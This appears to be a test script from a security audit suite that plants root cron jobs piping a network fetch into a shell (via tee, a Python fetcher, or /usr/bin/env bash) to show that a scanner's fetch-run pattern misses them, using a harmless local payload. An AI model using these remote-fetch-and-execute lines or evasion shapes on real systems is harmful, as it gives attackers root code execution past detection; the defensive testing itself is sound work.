#!/bin/sh
# Root's cron runs what a network fetch prints, in shapes the gate's fetch-run pattern (a fetcher's name from a list,
# piped straight into an interpreter) does not know. The admin's precondition: a 'config pull' job in /etc/cron.d.
# The deploy login answers for the address (here it serves 127.0.0.1:8089 itself; on a real host: whoever answers
# for that name, or sits on the path of plain http). Root runs its script within a minute; the read-only gate passes.
#   tee:  curl -fsS URL | tee -a /var/log/ops-pull.log | sh        (a tee in the pipe)
#   py:   python3 -c "...urlopen(URL)..." | sh                      (a fetcher not in the name list)
#   env:  curl -fsS URL | /usr/bin/env bash                         (the interpreter through /usr/bin/env)
#   file: wget/curl to a file, then sh FILE is not run here: see REPORT (not closed)
# Usage: attack9/atk_fetch_run.sh /tmp/atk9 tee|py|env
set -eu
W=${1:-/tmp/atk9}; V=${2:-tee}; CT=$(cat $W/ct)
U=http://127.0.0.1:8089/run.sh
case $V in
tee) JOB="* * * * * root curl -fsS $U | tee -a /var/log/ops-pull.log | sh" ;;
py)  JOB="* * * * * root python3 -c \"import urllib.request as u; print(u.urlopen('$U').read().decode())\" | sh" ;;
env) JOB="* * * * * root curl -fsS $U | /usr/bin/env bash" ;;
esac
docker exec $CT sh -c 'command -v curl >/dev/null || apt-get install -y -qq curl >/dev/null 2>&1; rm -f /tmp/root-ran'
docker exec $CT sh -c "printf '%s\n' \"\$1\" > /etc/cron.d/ops-pull; chmod 644 /etc/cron.d/ops-pull" sh "$JOB"
echo "--- root's /etc/cron.d/ops-pull:"; docker exec $CT cat /etc/cron.d/ops-pull
ssh -F $W/ssh_config deployer 'set -e; mkdir -p /tmp/srv; printf "id >> /tmp/root-ran\n" > /tmp/srv/run.sh
cd /tmp/srv; nohup python3 -m http.server -b 127.0.0.1 8089 >/dev/null 2>&1 & echo $! > /tmp/srv/pid'
echo "--- waiting for cron's next minute"; sleep $((62 - $(date +%S | sed 's/^0//')))
echo "--- /tmp/root-ran:"; docker exec $CT sh -c 'cat /tmp/root-ran 2>&1'
ssh -F $W/ssh_config deployer 'kill $(cat /tmp/srv/pid); rm -rf /tmp/srv'
echo "--- the gate (read-only, as admin):"
$W/gate.sh 2>&1 | grep -E "^FAILED|passed|failed|^  - /etc/cron" | cut -c1-400 || true
[ -n "${KEEP:-}" ] || docker exec $CT sh -c 'rm -f /etc/cron.d/ops-pull /tmp/root-ran /var/log/ops-pull.log'
